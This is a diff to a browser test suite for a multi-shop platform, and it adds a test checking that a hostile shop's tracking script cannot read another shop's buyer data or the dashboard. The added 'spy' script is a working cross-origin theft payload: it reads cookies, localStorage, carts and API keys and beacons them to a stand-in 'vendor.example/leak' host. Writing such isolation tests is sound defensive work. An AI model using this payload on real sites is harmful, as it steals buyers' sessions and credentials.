@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest'
 import { startService } from '../../support/service.ts'
 import { browserTimeout, chromiumMissing } from '../support/chromium.ts'
 import { openDashboard } from '../support/dashboard.ts'
-import { openOnDomain, openShopPages } from '../support/shop.ts'
+import { fillCart, openOnDomain, openShopPages } from '../support/shop.ts'
 
 const service = await startService()
 const shop = await openShopPages(service)
@@ -50,7 +50,7 @@ async function openHostileTab() {
   const leaks: string[] = []
   const scripts: string[] = []
   await tab.context.route(
-    (url) => !['localhost', '127.0.0.1', domain].includes(url.hostname),
+    (url) => !/(^|\.)localhost$|^127\./.test(url.hostname),
     (route) => {
       const url = route.request().url()
       if (url.includes('/leak?')) leaks.push(url)
@@ -67,7 +67,76 @@ const keyNames = async () =>
 
 const agree = (storeId: string) => `localStorage.setItem('${storeId}:measuring', 'granted')`
 
+const apart = await startService({ databaseUrl: service.databaseUrl, hasOwnOrigins: true })
+
+/** Tries to read what a buyer has at another shop, and the dashboard, in every way that a script has. */
+const spy = (victim: string, app: string, keys: string) => `(async () => {
+  const attempt = async (read) => {
+    try {
+      return String(await read())
+    } catch (error) {
+      return error.name
+    }
+  }
+  const get = (url, options) => attempt(async () => (await fetch(url, { credentials: 'include', ...options })).text())
+  const frame = document.createElement('iframe')
+  frame.src = '${victim}/account'
+  document.body.append(frame)
+  new Image().src = 'https://vendor.example/leak?' + new URLSearchParams({
+    run: 'spy',
+    page: await get('${victim}/cart'),
+    api: await get('${victim}/v3/stores/x/customers/me', { headers: { 'x-service-storefront-api-key': 'x' } }),
+    storage: JSON.stringify(localStorage),
+    cookies: document.cookie,
+    frame: await attempt(() => frame.contentWindow.localStorage.length),
+    me: await get('${app}/api/me'),
+    key: await get('${app}${keys}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
+  })
+})()`
+
 describe.skipIf(chromiumMissing)('A hostile shop', { timeout: browserTimeout }, () => {
+  it('reads nothing of a buyer of another shop, and nothing of the dashboard, from an origin of its own', async () => {
+    const [hostile, victim] = [await openShopPages(apart), await openShopPages(apart)]
+    await hostile.send('PATCH', `/stores/${hostile.store.id}/measuring/meta`, {
+      is_enabled: true,
+      pixel_id: '123456789012345',
+    })
+    const { page, context } = await openDashboard(apart, hostile.browser.cookie!)
+    // The buyer has a cart at the other shop, in its storage and in a cookie, and a session there.
+    await fillCart(page, victim)
+    await page.evaluate(() => localStorage.setItem('secret-of-the-buyer', 'session'))
+    const leaks: URLSearchParams[] = []
+    const body = spy(victim.url, apart.appUrl, `${hostile.path}/api-keys`)
+    await context.route(
+      (url) => !/(^|\.)localhost$|^127\./.test(url.hostname),
+      (route) => {
+        const url = new URL(route.request().url())
+        if (url.pathname === '/leak') leaks.push(url.searchParams)
+        return route.fulfill({ contentType: 'text/javascript', body })
+      },
+    )
+    await context.addInitScript(agree(hostile.store.unique_id))
+    await expect
+      .poll(async () => (await page.goto(hostile.url))!.text(), { timeout: 20_000 })
+      .toContain('"measuring":[{"vendor"')
+    await expect.poll(() => leaks.length, { timeout: 20_000 }).toBeGreaterThan(0)
+    expect(new URL(hostile.url).hostname).not.toBe(new URL(victim.url).hostname)
+    const { storage, cookies, ...leak } = Object.fromEntries(leaks[0]!)
+    expect(leak).toEqual({
+      run: 'spy',
+      page: 'TypeError',
+      api: 'TypeError',
+      frame: 'SecurityError',
+      me: 'TypeError',
+      key: 'TypeError',
+    })
+    expect(storage).not.toMatch(/secret-of-the-buyer|guest|access/)
+    expect(cookies).not.toMatch(/etalase/)
+    // The own origin of a shop has a cookie that the dashboard does not know, and the other way around.
+    const names = (await context.cookies()).map(({ name }) => name.replace(/store_\w+/, 'store')).sort()
+    expect(names.filter((name) => /etalase/.test(name))).toEqual(['etalase_cart_store', 'etalase_session'])
+  })
+
   it('reads and writes nothing of the dashboard with the script of a service', async () => {
     for (const [vendor, pixel_id] of Object.entries({ meta: '123456789012345', tiktok: 'C4A0B1C2D3', ga4: 'G-ABC123' }))
       await shop.send('PATCH', `/stores/${shop.store.id}/measuring/${vendor}`, {
